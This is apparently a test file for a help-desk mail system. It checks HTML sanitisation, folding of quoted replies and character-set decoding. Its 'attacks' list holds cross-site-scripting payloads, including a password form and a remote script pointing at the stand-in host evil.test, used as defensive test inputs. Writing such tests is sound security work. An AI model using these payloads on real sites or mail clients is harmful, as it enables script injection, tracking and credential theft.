import { Parser } from 'htmlparser2';
import { beforeAll, describe, expect, inject, test } from 'vitest';
import { crlf, MailDesk, sendRaw } from '../../../support/desks/mail-desk.ts';
import { PortalClient } from '../../../support/local/portal-client.ts';
import { type Account, unique } from '../../people.ts';

const client = new PortalClient(inject('portal'));
const desk = new MailDesk(client);

let account: Account;

/** An account for each part of these tests, for one person may write only so many mails in an hour. */
const writeFromNewAccount = async (): Promise<void> => {
  account = await desk.openAccount();
};

/** The message that a mail of the owner became. */
async function received(mail: { text?: string; html?: string }): Promise<any> {
  const subject = unique('HTML');
  await client.sendMail({ from: account.owner.email, subject, ...mail });
  return (await desk.ticketNamed(account, subject)).messages[0];
}

/** The message that these bytes became. */
async function receivedRaw(head: string[], body: string | Buffer): Promise<any> {
  const subject = unique('Raw');
  const top = crlf(
    `From: ${account.owner.email}`,
    `Subject: ${subject}`,
    'MIME-Version: 1.0',
    ...head,
    '',
    '',
  );
  await sendRaw(client, Buffer.concat([Buffer.from(top), Buffer.from(body)]), { from: account.owner.email });
  return (await desk.ticketNamed(account, subject)).messages[0];
}

interface Tag {
  name: string;
  attributes: Record<string, string>;
}

/** Every tag of a piece of HTML, as a browser would come upon them. */
function tagsOf(html: string): Tag[] {
  const tags: Tag[] = [];
  const parser = new Parser({ onopentag: (name, attributes) => tags.push({ name, attributes }) });
  parser.end(html);
  return tags;
}

const harmful =
  /^(script|iframe|frame|frameset|object|embed|applet|form|input|button|textarea|select|meta|base|link|style|svg|math|template|noscript|portal|audio|video|source|track)$/;

/** Nothing in it runs, loads or imitates the page that shows it. */
function expectHarmless(html: string): void {
  for (const { name, attributes } of tagsOf(html)) {
    expect(name).not.toMatch(harmful);
    for (const [key, value] of Object.entries(attributes)) {
      const said = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
      expect(key).not.toMatch(
        /^on|^srcdoc$|^formaction$|^xlink|^action$|^background$|^srcset$|^ping$|^id$|^name$/,
      );
      expect(said).not.toMatch(/javascript:|vbscript:|data:text|expression\(|@import|url\(/);
      if (['src', 'poster', 'data'].includes(key))
        expect(said).toMatch(/^(cid:|data:image\/(png|gif|jpe?g|webp))/);
      if (key === 'href') expect(said).toMatch(/^(https?:|mailto:|tel:|#)/);
    }
  }
  expect(html).not.toMatch(/<script|alert\(/i);
}

const attacks: [string, string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script in capitals with an attribute', '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>'],
  ['a broken script', '<scr<script>ipt>run(1)</scr</script>ipt>'],
  ['an event', '<img src="cid:x" onerror="alert(1)">'],
  ['an event without quotes', '<img/src=x/onerror=alert(1)>'],
  ['an event in svg', '<svg><g/onload=alert(2)//<p>'],
  ['a link with a script', '<a href="javascript:alert(1)">x</a>'],
  ['a link with a script in disguise', '<a href=" jAva\nscRipt&colon;alert(1)">x</a>'],
  ['a link with a script in entities', '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>'],
  ['a link with a control character', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['a link to a page of data', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['a remote picture', '<img src="https://evil.test/pixel.gif" width="1" height="1">'],
  ['a remote picture without a scheme', '<img src="//evil.test/pixel.gif">'],
  [
    'remote pictures in srcset',
    '<img src="cid:x" srcset="https://evil.test/a.png 1x, //evil.test/b.png 2x">',
  ],
  [
    'a remote picture in a background',
    '<table background="https://evil.test/x.png"><tr><td>x</td></tr></table>',
  ],
  ['a remote picture in a style', '<div style="background-image: u\\72l(https://evil.test/x.png)">x</div>'],
  ['a script in a style', '<div style="width: expression(alert(1))">x</div>'],
  ['a style sheet', '<style>@import "https://evil.test/x.css"; body { display: none }</style>'],
  ['a linked style sheet', '<link rel="stylesheet" href="https://evil.test/x.css">'],
  [
    'a frame',
    '<iframe src="https://evil.test/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  ],
  ['a form', '<form action="https://evil.test/"><input name="password"><button>Sign in</button></form>'],
  ['a base', '<base href="https://evil.test/"><a href="/x">x</a>'],
  ['a refresh', '<meta http-equiv="refresh" content="0; url=https://evil.test/">'],
  ['an object', '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x.swf">'],
  ['a video', '<video poster="https://evil.test/x.png"><source src="https://evil.test/x.mp4"></video>'],
  [
    'a picture drawn by svg',
    '<svg><image href="https://evil.test/x.png"/><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  ],
  [
    'a parser trick',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['a trick with noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['a comment that is none', '<!--><img src=x onerror=alert(1)>-->'],
  ['a tag that never ends', '<img src=x onerror=alert(1) '],
  ['a conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
];

describe('HTML', () => {
  beforeAll(writeFromNewAccount);

  test.concurrent.each(attacks)('with %s is harmless, and the rest is there', async (_, attack) => {
    const message = await received({ html: `<p>Before <b>bold</b>.</p>${attack}` });
    expectHarmless(message.bodyHtml ?? '');
    expect(message.bodyHtml).toContain('Before');
    expect(message.body).toContain('Before bold.');
    expect(message.body).not.toContain('alert(');
  });

  test('keeps what a person writes with: emphasis, lists, tables, links, quotes', async () => {
    const html =
      '<h2>Title</h2><p>A <b>bold</b> and <em>soft</em> word, <a href="https://people.test/a?b=1&amp;c=2">a link</a>.</p>' +
      '<ul><li>One</li><li>Two</li></ul><table><tr><td>Cell</td></tr></table><pre>  code</pre><p>5 &lt; 6 &amp; 7</p>';
    const { bodyHtml, body } = await received({ html });
    expectHarmless(bodyHtml);
    expect(tagsOf(bodyHtml).map(({ name }) => name)).toEqual(
      expect.arrayContaining(['b', 'em', 'a', 'ul', 'li', 'table', 'td', 'pre']),
    );
    const link = tagsOf(bodyHtml).find(({ name }) => name === 'a')!;
    expect(link.attributes['href']?.replaceAll('&amp;', '&')).toBe('https://people.test/a?b=1&c=2');
    for (const word of ['Title', 'A bold and soft word', 'One', 'Two', 'Cell', 'code', '5 < 6 & 7'])
      expect(body).toContain(word);
    expect(body).toContain('https://people.test/a?b=1&c=2');
  });

  test('without a text part is read from the HTML, one with both from the text', async () => {
    const html = '<div>First line</div><div>Second &eacute; line<br>Third</div><p></p><p>Last &#128522;</p>';
    const alone = await received({ html });
    expect(
      alone.body
        .split('\n')
        .map((line: string) => line.trim())
        .filter(Boolean),
    ).toEqual(['First line', 'Second é line', 'Third', 'Last 😊']);
    const both = await received({ text: 'The text.', html: '<p>The HTML.</p>' });
    expect(both.body).toBe('The text.');
    expect(both.bodyHtml).toContain('The HTML.');
  });

  test('is not there where nobody wrote any', async () => {
    const { body, bodyHtml } = await received({ text: '<b>Not</b> HTML & <script>alert(1)</script>' });
    expect(body).toBe('<b>Not</b> HTML & <script>alert(1)</script>');
    if (bodyHtml !== undefined) expectHarmless(bodyHtml);
  });
});

const quotes: [string, string, string[]][] = [
  [
    'an English client',
    'On Mon, 2 Nov 2026 at 10:00, Support <support@portal.test> wrote:\n> It was asked.\n> Twice.',
    ['It was asked.'],
  ],
  [
    'a line broken before “wrote”',
    'On Mon, 2 Nov 2026 at 10:00, Support of Annex\n<support@portal.test> wrote:\n\n> It was asked.',
    ['It was asked.'],
  ],
  ['a German client', 'Am 02.11.2026 um 10:00 schrieb Support:\n> Es wurde gefragt.', ['Es wurde gefragt.']],
  ['a French client', 'Le lun. 2 nov. 2026 à 10:00, Support a écrit :\n> On a demandé.', ['On a demandé.']],
  [
    'Outlook',
    '-----Original Message-----\nFrom: Support <support@portal.test>\nSent: Monday, November 2, 2026 10:00\nTo: Olive\nSubject: It\n\nIt was asked.',
    ['Original Message', 'It was asked.'],
  ],
  [
    'Outlook of today',
    '________________________________\nFrom: Support <support@portal.test>\nSent: Monday, November 2, 2026 10:00\nTo: Olive <olive@people.test>\nSubject: It\n\nIt was asked.',
    ['It was asked.'],
  ],
  ['a signature', '-- \nOlive Owner\n+44 20 7946 0000', ['Olive Owner', '+44 20 7946 0000']],
  ['a telephone', 'Sent from my iPhone', ['Sent from my iPhone']],
];

describe('what is not new in a mail', () => {
  beforeAll(writeFromNewAccount);

  test.concurrent.each(quotes)('is folded: of %s', async (_, old, words) => {
    const message = await received({ text: `The new text.\n\nIts second paragraph.\n\n${old}` });
    expect(message.body).toBe('The new text.\n\nIts second paragraph.');
    for (const word of words) expect(message.quoted).toContain(word);
  });

  test('is kept: new text and what was folded are all that was written', async () => {
    const text =
      'New.\n\nOn Mon, 2 Nov 2026 at 10:00, Support <support@portal.test> wrote:\n> Old.\n\n-- \nOlive';
    const { body, quoted } = await received({ text });
    const words = (said: string): string[] => said.split(/\s+/).filter(Boolean).sort();
    expect(words(`${body} ${quoted}`)).toEqual(words(text));
  });

  test('of HTML is folded too', async () => {
    const html =
      '<div>The new text.</div><div class="gmail_quote"><div>On Mon, 2 Nov 2026 at 10:00, Support &lt;support@portal.test&gt; wrote:<br></div>' +
      '<blockquote class="gmail_quote">It was asked.</blockquote></div>';
    const { body, quoted } = await received({ html });
    expect(body).toBe('The new text.');
    expect(quoted).toContain('It was asked.');
  });

  test('stays where answers stand between the lines, and where a mail is nothing but a quote', async () => {
    const between = await received({ text: '> Is it on?\nYes, it is.\n\n> Is it red?\nNo, it is green.' });
    expect(between.body).toContain('Yes, it is.');
    expect(between.body).toContain('No, it is green.');
    const alone = await received({ text: '> Nothing but a quote.' });
    expect(`${alone.body} ${alone.quoted ?? ''}`).toContain('Nothing but a quote.');
  });

  test('is not every line that begins like one', async () => {
    const text = 'On Monday I wrote: nothing.\n\nFrom: is a word, too.\n-- this is no signature';
    const { body, quoted } = await received({ text });
    expect(body).toContain('On Monday I wrote: nothing.');
    expect(`${body}\n${quoted ?? ''}`).toContain('-- this is no signature');
  });
});

const charsets: [string, string[], Buffer, string][] = [
  [
    'iso-8859-1',
    ['Content-Transfer-Encoding: 8bit'],
    Buffer.from('Gr\xf6\xdfe \xe0 \xa3 5', 'latin1'),
    'Größe à £ 5',
  ],
  ['ISO-8859-15', ['Content-Transfer-Encoding: 8bit'], Buffer.from([0x35, 0x20, 0xa4]), '5 €'],
  [
    'windows-1252',
    ['Content-Transfer-Encoding: 8bit'],
    Buffer.from('\x93smart\x94 \x96 5 \x80 \x99', 'latin1'),
    '“smart” – 5 € ™',
  ],
  [
    'utf-8',
    ['Content-Transfer-Encoding: quoted-printable'],
    Buffer.from('Gr=C3=B6=C3=9Fe =E6=9D=B1=E4=BA=AC =F0=9F=A6=8A a long=\r\ner line =3D'),
    'Größe 東京 🦊 a longer line =',
  ],
  [
    'koi8-r',
    ['Content-Transfer-Encoding: 8bit'],
    Buffer.from([0xf0, 0xd2, 0xc9, 0xd7, 0xc5, 0xd4]),
    'Привет',
  ],
  ['"KOI8-R"', ['Content-Transfer-Encoding: base64'], Buffer.from('8NLJ18XU'), 'Привет'],
  ['shift_jis', ['Content-Transfer-Encoding: 8bit'], Buffer.from([0x93, 0x8c, 0x8b, 0x9e]), '東京'],
  ['gb2312', ['Content-Transfer-Encoding: 8bit'], Buffer.from([0xc4, 0xe3, 0xba, 0xc3]), '你好'],
];

describe('a character set', () => {
  beforeAll(writeFromNewAccount);

  test.concurrent.each(charsets)('%s is read as it was written', async (charset, head, bytes, text) => {
    const message = await receivedRaw([`Content-Type: text/plain; charset=${charset}`, ...head], bytes);
    expect(message.body).toBe(text);
  });

  test('of the HTML is read, and of the subject and the sender’s name', async () => {
    const head = [
      'Content-Type: text/html; charset=iso-8859-1',
      'Content-Transfer-Encoding: quoted-printable',
    ];
    expect((await receivedRaw(head, '<p>Gr=F6=DFe &pound; 5</p>')).body).toBe('Größe £ 5');
    const mark = unique('S');
    const message = crlf(
      `From: =?koi8-r?B?8NLJ18XU?= <${account.owner.email}>`,
      `Subject: =?iso-8859-1?Q?Gr=F6=DFe?= =?koi8-r?B?8NLJ18XU?= ${mark}`,
      '',
      'Hello.',
    );
    await sendRaw(client, message, { from: account.owner.email });
    expect((await desk.record(mark)).subject).toBe(`GrößeПривет ${mark}`);
  });

  test('that is not said is read as UTF-8 where it is that', async () => {
    const message = await receivedRaw(
      ['Content-Type: text/plain', 'Content-Transfer-Encoding: 8bit'],
      'Größe 🦊',
    );
    expect(message.body).toBe('Größe 🦊');
  });
});
